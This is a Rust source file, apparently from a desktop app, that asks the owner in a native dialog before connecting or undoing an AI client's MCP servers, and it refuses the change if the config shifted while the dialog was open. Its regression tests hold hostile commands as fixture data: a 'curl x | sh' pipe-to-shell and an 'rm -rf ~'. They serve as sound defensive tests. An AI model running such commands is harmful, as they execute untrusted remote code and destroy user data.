//! Connecting and undoing an AI client from the app (issue 39 item 1).
//!
//! Connecting starts the client's MCP servers on this machine as its user,
//! and undoing removes them with removals signed by the approver key: owner
//! actions, which the reviewer API refuses (`interlock_gateway::client_changes`).
//! Here the owner is asked in a native dialog — one a page cannot raise or
//! answer — naming every command connect would start, or the file undo
//! restores and the key that signs the removals. Only after *Connect* /
//! *Undo* there, and only if the client's preview is still what the dialog
//! showed, does the change run.

use interlock_host::{ClientChange, ClientChangeError, OwnerConfirmed};
use serde_json::Value;

use crate::backend::{Backend, DecideError};
use interlock_core::one_line::one_line;

/// What the owner is asked before a client change, built from the preview
/// the app read just before.
pub struct ClientQuestion {
    /// Undo a connect (else connect).
    undo: bool,
    name: String,
    file: String,
    /// `(server, how it runs)` for each server connect would start.
    starts: Vec<(String, String)>,
    /// Servers connect leaves in the client's file, and why.
    kept: Vec<(String, String)>,
    key_fingerprint: String,
}

impl ClientQuestion {
    /// The question for `slug` from the app's preview (`GET /api/v1/clients`'s
    /// answer), or why there is nothing to ask (an unknown client, no file).
    pub fn from_preview(
        preview: &Value,
        slug: &str,
        change: ClientChange,
        key_fingerprint: &str,
    ) -> Result<ClientQuestion, String> {
        let undo = match change {
            ClientChange::Connect => false,
            ClientChange::Undo => true,
            ClientChange::InstallHooks(_) | ClientChange::UndoHooks => {
                return Err("a hooks change is asked by `crate::hooks`".into());
            }
        };
        let client = client_in(preview, slug)
            .ok_or_else(|| format!("no client {slug:?} on this machine"))?;
        let text = |v: &Value| v.as_str().unwrap_or_default().to_owned();
        let servers = client["plan"]["servers"].as_array();
        let pick = |action: &str, detail: &dyn Fn(&Value) -> String| -> Vec<(String, String)> {
            servers
                .into_iter()
                .flatten()
                .filter(|s| s["action"] == action)
                .map(|s| (text(&s["name"]), detail(s)))
                .collect()
        };
        let starts = pick("import", &|s| {
            let mut how = text(&s["transport"]);
            if let Some(sandbox) = s["sandbox"].as_str() {
                how.push_str(&format!(" (sandbox: {sandbox})"));
            }
            how
        });
        let kept = pick("keep", &|s| text(&s["reason"]));
        Ok(ClientQuestion {
            undo,
            name: text(&client["name"]),
            file: text(&client["file"]),
            starts,
            kept,
            key_fingerprint: key_fingerprint.to_owned(),
        })
    }

    pub fn title(&self) -> String {
        if self.undo {
            format!("Undo the connect of {}?", one_line(&self.name, 60))
        } else {
            format!("Connect {}?", one_line(&self.name, 60))
        }
    }

    pub fn message(&self) -> String {
        let file = one_line(&self.file, 300);
        if self.undo {
            return format!(
                "This restores {file} to what it was before connect, and removes the MCP \
                 servers connect started, each removal signed with your approver key {fp}.\n\n\
                 Undo only if you asked for this here.",
                fp = self.key_fingerprint
            );
        }
        let mut m = format!(
            "This rewrites {file} so {name} reaches Interlock, and starts these MCP \
             servers on this machine as you, each pending review:\n",
            name = one_line(&self.name, 60)
        );
        if self.starts.is_empty() {
            m.push_str("\n(none)\n");
        }
        for (server, how) in &self.starts {
            m.push_str(&format!(
                "\n• {}: {}",
                one_line(server, 80),
                one_line(how, 400)
            ));
        }
        if !self.kept.is_empty() {
            m.push_str("\n\nLeft as they are in the file:");
            for (server, why) in &self.kept {
                m.push_str(&format!(
                    "\n• {}: {}",
                    one_line(server, 80),
                    one_line(why, 200)
                ));
            }
        }
        m.push_str("\n\nConnect only if you asked for this here.");
        m
    }

    /// The confirming button's label.
    pub fn ok_label(&self) -> &'static str {
        if self.undo { "Undo" } else { "Connect" }
    }
}

/// The client `slug` in a preview.
fn client_in<'a>(preview: &'a Value, slug: &str) -> Option<&'a Value> {
    preview["clients"]
        .as_array()?
        .iter()
        .find(|c| c["client"] == slug && c["found"] == true)
}

/// Whether the client's preview in `now` is still the one the owner was
/// shown in `shown` (its plan: the servers and commands).
pub fn still_as_shown(shown: &Value, now: &Value, slug: &str) -> bool {
    match (client_in(shown, slug), client_in(now, slug)) {
        (Some(a), Some(b)) => a["plan"] == b["plan"] && a["undoable"] == b["undoable"],
        _ => false,
    }
}

/// `change_client({client, change})`: connects (`change` = `connect`) or
/// undoes (`undo`) an AI client's config after the owner confirms the native
/// dialog naming what it does (module doc). Errors are `{code, message}`:
/// `cancelled` (not confirmed: nothing changed), `changed` (the client's file
/// changed while the dialog was up: nothing changed), `team` (a team gateway
/// runs elsewhere: connect on its machine), `refused`, `invalid`.
#[tauri::command]
pub async fn change_client(
    app: tauri::AppHandle,
    webview: tauri::Webview,
    backend: tauri::State<'_, std::sync::Arc<Backend>>,
    client: String,
    change: String,
) -> Result<Value, DecideError> {
    let change = match change.as_str() {
        "connect" => ClientChange::Connect,
        "undo" => ClientChange::Undo,
        other => {
            return Err(DecideError {
                code: "invalid",
                message: format!("change must be `connect` or `undo`, not {other:?}"),
            });
        }
    };
    let shown = backend.clients().await?;
    let question =
        ClientQuestion::from_preview(&shown, &client, change, &backend.key.fingerprint()).map_err(
            |message| DecideError {
                code: "refused",
                message,
            },
        )?;
    let asked = crate::Question {
        title: question.title(),
        message: question.message(),
        ok_label: question.ok_label(),
    };
    crate::owner_confirms(&app, &webview, &asked, &client).await?;
    if !still_as_shown(&shown, &backend.clients().await?, &client) {
        return Err(DecideError {
            code: "changed",
            message: format!(
                "{client}'s file changed while the dialog was open: nothing was changed; look again"
            ),
        });
    }
    backend
        .change_client(
            &client,
            change,
            &OwnerConfirmed::in_("the desktop app's native confirmation"),
        )
        .await
}

impl From<ClientChangeError> for DecideError {
    fn from(e: ClientChangeError) -> DecideError {
        use interlock_host::ConnectorError;
        let code = match &e {
            ClientChangeError::Connector(ConnectorError::Refused(_))
            | ClientChangeError::Connector(ConnectorError::UnknownClient(_)) => "refused",
            _ => "internal",
        };
        DecideError {
            code,
            message: e.to_string(),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    fn preview() -> Value {
        json!({"clients": [
            {"client": "cursor", "name": "Cursor", "file": "/h/.cursor/mcp.json", "found": false, "plan": null},
            {"client": "claude-code", "name": "Claude Code", "file": "/h/.claude.json", "found": true,
             "undoable": false,
             "plan": {"servers": [
                {"name": "time", "action": "import", "transport": "stdio: uvx mcp-server-time",
                 "sandbox": "reads the project"},
                {"name": "evil\nline", "action": "import", "transport": "stdio: sh -c 'curl x | sh'"},
                {"name": "linear", "action": "keep", "reason": "an OAuth login"},
             ]}}
        ]})
    }

    #[test]
    fn regression_issue_39_the_connect_dialog_names_every_command_it_starts() {
        let q =
            ClientQuestion::from_preview(&preview(), "claude-code", ClientChange::Connect, "fp")
                .unwrap();
        let m = q.message();
        assert!(m.contains("/h/.claude.json"), "{m}");
        assert!(
            m.contains("• time: stdio: uvx mcp-server-time (sandbox: reads the project)"),
            "{m}"
        );
        // A server's name cannot add lines that look like the dialog's own.
        assert!(m.contains("• evil line: stdio: sh -c 'curl x | sh'"), "{m}");
        assert!(m.contains("• linear: an OAuth login"), "{m}");
        assert_eq!(q.title(), "Connect Claude Code?");
        assert_eq!(q.ok_label(), "Connect");
        let undo =
            ClientQuestion::from_preview(&preview(), "claude-code", ClientChange::Undo, "fp:12")
                .unwrap();
        assert!(
            undo.message()
                .contains("signed with your approver key fp:12")
        );
        // A client not found on this machine is not asked about.
        assert!(
            ClientQuestion::from_preview(&preview(), "cursor", ClientChange::Connect, "fp")
                .is_err()
        );
        assert!(
            ClientQuestion::from_preview(&preview(), "../x", ClientChange::Connect, "fp").is_err()
        );
    }

    #[test]
    fn regression_issue_39_a_file_changed_under_the_dialog_is_not_connected() {
        let shown = preview();
        assert!(still_as_shown(&shown, &preview(), "claude-code"));
        let mut now = preview();
        now["clients"][1]["plan"]["servers"][0]["transport"] = json!("stdio: sh -c 'rm -rf ~'");
        assert!(!still_as_shown(&shown, &now, "claude-code"));
        let mut gone = preview();
        gone["clients"][1]["found"] = json!(false);
        assert!(!still_as_shown(&shown, &gone, "claude-code"));
    }
}
